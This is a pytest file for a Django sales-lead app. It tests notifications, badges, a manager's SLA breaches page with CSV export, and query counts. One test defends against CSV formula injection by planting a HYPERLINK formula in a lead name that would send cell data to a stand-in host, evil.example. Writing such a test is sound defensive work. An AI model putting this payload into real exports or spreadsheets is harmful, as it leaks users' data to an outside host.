"""Notifications pages, the nav badge, the manager's breaches page, queue and inbox badges."""

import csv
import io

import pytest

from qualify.sla.models import Clock
from qualify.notifications.models import Notification, NotificationKind
from qualify.sla.sweep import sweep
from tests.conftest import login
from tests.factories import LeadFactory

from .conftest import at

HTMX = {"HTTP_HX_REQUEST": "true"}


def note(user, title="SLA breached: Dana Diaz", **kw):
    return Notification.objects.create(user=user, kind=NotificationKind.SLA_BREACH, title=title, url="/leads/1/", **kw)


# --- notifications ---------------------------------------------------------------------------------


def test_notifications_page_lists_only_my_own(client, alice, bob):
    note(alice, "For Alice")
    note(bob, "For Bob")
    html = login(client, alice).get("/notifications/").content.decode()
    assert "For Alice" in html and "For Bob" not in html
    assert "1 unread" in html


def test_notifications_page_query_count_does_not_grow(client, alice):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    for i in range(30):
        note(alice, f"Note {i}")
    login(client, alice).get("/notifications/")  # warm per-process caches (content types)
    with CaptureQueriesContext(connection) as few:
        assert client.get("/notifications/").status_code == 200
    for i in range(30, 60):
        note(alice, f"Note {i}")
    with CaptureQueriesContext(connection) as many:
        client.get("/notifications/")
    assert len(few) == len(many) <= 6  # session, user, page, unread count, and the nav's own
    assert sum("sla_notification" in q["sql"] for q in many.captured_queries) == 2


def test_notifications_load_more_is_keyset_paged(client, alice):
    notes = [note(alice, f"Note {i:02d}") for i in range(55)]
    login(client, alice)
    first = client.get("/notifications/").content.decode()
    assert "Note 54" in first and "Note 04" not in first
    assert f"?before={notes[5].pk}" in first
    more = client.get(f"/notifications/?before={notes[5].pk}", **HTMX).content.decode()
    assert "Note 04" in more and "Note 00" in more and "Note 05" not in more


def test_mark_read_with_htmx_returns_the_row(client, alice):
    n = note(alice)
    response = login(client, alice).post(f"/notifications/{n.pk}/read/", **HTMX)
    assert response.status_code == 200
    assert response["HX-Trigger"] == "notifications-changed"
    assert 'class="note read' in response.content.decode()
    # The page's "N unread" follows, out of band.
    assert '<span id="unread-summary" hx-swap-oob="true">All read</span>' in response.content.decode()
    n.refresh_from_db()
    assert n.read_at is not None


def test_marking_someone_elses_notification_is_a_404_and_changes_nothing(client, alice, charlie):
    n = note(alice)
    assert login(client, charlie).post(f"/notifications/{n.pk}/read/").status_code == 404
    n.refresh_from_db()
    assert n.read_at is None


def test_mark_all_read(client, alice, bob):
    note(alice)
    note(alice)
    other = note(bob)
    response = login(client, alice).post("/notifications/read-all/")
    assert response.status_code == 302
    assert not Notification.objects.filter(user=alice, read_at__isnull=True).exists()
    other.refresh_from_db()
    assert other.read_at is None


def test_opening_a_notification_marks_it_read_and_follows_its_link(client, alice):
    n = note(alice)
    response = login(client, alice).post(f"/notifications/{n.pk}/open/")
    assert response.status_code == 302 and response["Location"] == "/leads/1/"
    n.refresh_from_db()
    assert n.read_at is not None


def test_badge_shows_the_unread_count(client, alice, django_assert_num_queries):
    note(alice)
    note(alice)
    note(alice, read_at=at(2025, 1, 1))
    login(client, alice)
    with django_assert_num_queries(3):  # session, user, count
        html = client.get("/notifications/badge/", **HTMX).content.decode()
    assert ">2</span>" in html


def test_badge_is_empty_when_all_read(client, alice):
    assert login(client, alice).get("/notifications/badge/").content.decode().strip() == ""


def test_nav_polls_the_badge_with_htmx(client, alice):
    html = login(client, alice).get("/notifications/").content.decode()
    assert 'hx-get="/notifications/badge/"' in html and 'hx-trigger="load, every 30s' in html


def test_pages_need_login(client):
    assert client.get("/notifications/").status_code == 302
    assert client.get("/notifications/badge/").status_code == 302
    assert client.get("/sla/breaches/").status_code == 302


# --- the manager's page ----------------------------------------------------------------------------


@pytest.fixture
def breached(frozen, alices_lead, make_mql, maria):
    make_mql(alices_lead)
    frozen.move_to(at(2025, 3, 4, 12, 30))
    sweep()
    return Clock.objects.get(lead=alices_lead)


def test_manager_sees_overdue_clocks_and_escalations(client, breached, maria):
    html = login(client, maria).get("/sla/breaches/").content.decode()
    assert "Overdue now (1)" in html
    assert "Dana Diaz" in html and "overdue 1 h 30 min" in html
    assert "Notified Alice, Maria" in html
    assert "No other rep available; stays with Alice Adams" in html
    assert 'action="/leads/%d/reassign/"' % breached.lead_id in html
    # The times in the tables say their zone, as the escalation lines do ("Due 4 Mar 2025, 11:00 UTC").
    assert "<th>Due (UTC)</th>" in html and "<th>When (UTC)</th>" in html


def test_compliance_names_owners_and_clocks_as_the_rest_of_the_page(client, breached, maria):
    html = login(client, maria).get("/sla/breaches/").content.decode()
    compliance = html[html.index('id="compliance"'):]
    assert "<td>Alice Adams</td><td>MQL assigned → first touch</td>" in compliance
    assert "mql_first_touch" not in compliance


def test_breaches_csv(client, breached, maria):
    response = login(client, maria).get("/sla/breaches/?export=csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    lines = response.content.decode().splitlines()
    assert lines[0] == "at,kind,lead_id,lead,owner,scheduled_at,detail"
    assert len(lines) == 4  # breach, notify, reassign


def test_breaches_csv_neutralises_a_formula_in_a_lead_name(client, breached, maria):
    from qualify.leads.models import Lead

    Lead.objects.filter(pk=breached.lead_id).update(first_name='=HYPERLINK("http://evil.example/?"&A1,"Dana")')
    rows = list(csv.reader(io.StringIO(login(client, maria).get("/sla/breaches/?export=csv").content.decode())))
    assert {r[3] for r in rows[1:]} == {'\'=HYPERLINK("http://evil.example/?"&A1,"Dana") Diaz'}


def test_breaches_page_shows_only_my_teams(client, breached, maria, south, charlie):
    from qualify.leads.models import Lead
    from qualify.sla.clocks import start_clock

    other = LeadFactory(team=south, owner=charlie, first_name="Sofia", last_name="South")
    start_clock(Lead.objects.select_related("account").get(pk=other.pk), "mql_first_touch", owner_id=charlie.pk,
                at=at(2025, 3, 4, 9, 0))
    html = login(client, maria).get("/sla/breaches/").content.decode()
    assert "Dana Diaz" in html and "Sofia South" not in html
    assert login(client, maria).get(f"/sla/breaches/?team={south.pk}").status_code == 404


def test_breaches_page_is_for_managers(client, breached, alice, mark):
    assert login(client, alice).get("/sla/breaches/").status_code == 403
    assert login(client, mark).get("/sla/breaches/").status_code == 403


def test_admin_sees_every_team(client, breached, rita):
    assert "Dana Diaz" in login(client, rita).get("/sla/breaches/").content.decode()


def test_breaches_page_query_count_is_fixed(client, frozen, alice, north, maria, make_mql, django_assert_num_queries):
    def count_for(n):
        for _ in range(n):
            make_mql(LeadFactory(team=north, owner=alice))
        frozen.move_to(at(2025, 3, 4, 12, 30))
        sweep()
        login(client, maria)
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        with CaptureQueriesContext(connection) as ctx:
            assert client.get("/sla/breaches/").status_code == 200
        frozen.move_to(at(2025, 3, 4, 10, 0))
        return len(ctx)

    assert count_for(2) == count_for(8)


# --- badges in the queue, on the lead page and in the inbox ----------------------------------------


def test_queue_row_shows_the_countdown(client, frozen, alices_lead, alice, make_mql):
    make_mql(alices_lead)
    frozen.move_to(at(2025, 3, 4, 10, 50))
    html = login(client, alice).get("/queue/").content.decode()
    assert "sla-warn" in html and "First touch due in 10 min" in html


def test_queue_badges_cost_one_query_for_the_page(client, frozen, alice, north, make_mql):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    for _ in range(3):
        make_mql(LeadFactory(team=north, owner=alice))
    login(client, alice)
    with CaptureQueriesContext(connection) as few:
        client.get("/queue/")
    for _ in range(10):
        make_mql(LeadFactory(team=north, owner=alice))
    with CaptureQueriesContext(connection) as many:
        client.get("/queue/")
    assert len(few) == len(many)
    assert sum("sla_clock" in q["sql"] for q in many.captured_queries) == 1


def test_breached_filter_in_the_queue(client, frozen, alice, north, make_mql):
    late = LeadFactory(team=north, owner=alice, first_name="Late", last_name="Lead")
    make_mql(late)
    frozen.move_to(at(2025, 3, 4, 11, 30))
    fresh = LeadFactory(team=north, owner=alice, first_name="Fresh", last_name="Lead")
    make_mql(fresh)
    login(client, alice)
    html = client.get("/queue/?sla=breached").content.decode()
    assert "Late Lead" in html and "Fresh Lead" not in html
    html = client.get("/queue/?sla=").content.decode()
    assert "Late Lead" in html and "Fresh Lead" in html
    frozen.move_to(at(2025, 3, 4, 12, 20))
    html = client.get("/queue/?sla=at_risk").content.decode()
    assert "Fresh Lead" in html and "Late Lead" not in html


def test_lead_page_shows_clocks_and_escalations(client, breached, alice):
    html = login(client, alice).get(f"/leads/{breached.lead_id}/").content.decode()
    assert 'id="sla-panel"' in html
    assert "MQL first touch within 1 business hour" in html
    assert "overdue 1 h 30 min" in html and "Notified Alice, Maria" in html
    assert "Reassign to" not in html  # an SDR cannot reassign


def test_handoff_inbox_shows_the_sla_countdown_with_one_query(client, frozen, alice, erin, north):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from qualify.handoff.workflow import hand_off
    from qualify.leads.models import Stage
    from tests.handoff.conftest import qualify_fully

    for name in ("One", "Two", "Three"):
        lead = LeadFactory(team=north, owner=alice, stage=Stage.WORKING, first_name=name)
        qualify_fully(lead, alice)
        hand_off(lead, to=erin, by=alice, next_step="Demo Tuesday 10:00 with the CFO")
    frozen.move_to(at(2025, 3, 4, 13, 30))
    login(client, erin)
    with CaptureQueriesContext(connection) as ctx:
        html = client.get("/handoffs/").content.decode()
    assert html.count("SLA due in 30 min") == 3
    assert sum("sla_clock" in q["sql"] for q in ctx.captured_queries) == 1


def test_queue_badge_markup_is_the_whole_span_escaped_as_django_escapes(client, frozen, alices_lead, alice, make_mql):
    """The badge is built by hand (sla.panels._badge) rather than by format_html: its markup, title
    and all, is pinned here, and an escaped text part must come out as Django's escape writes it."""
    from django.utils.html import escape

    from qualify.sla import panels

    make_mql(alices_lead)
    frozen.move_to(at(2025, 3, 4, 10, 50))
    html = login(client, alice).get("/queue/").content.decode()
    assert ('<span class="badge sla-badge sla-warn" title="MQL assigned → first touch: due 4 Mar 2025, 11:00 UTC">'
            'First touch due in 10 min</span>') in html
    assert panels.escape("<b title=\"x\">O'Neil & co</b>") == escape("<b title=\"x\">O'Neil & co</b>")
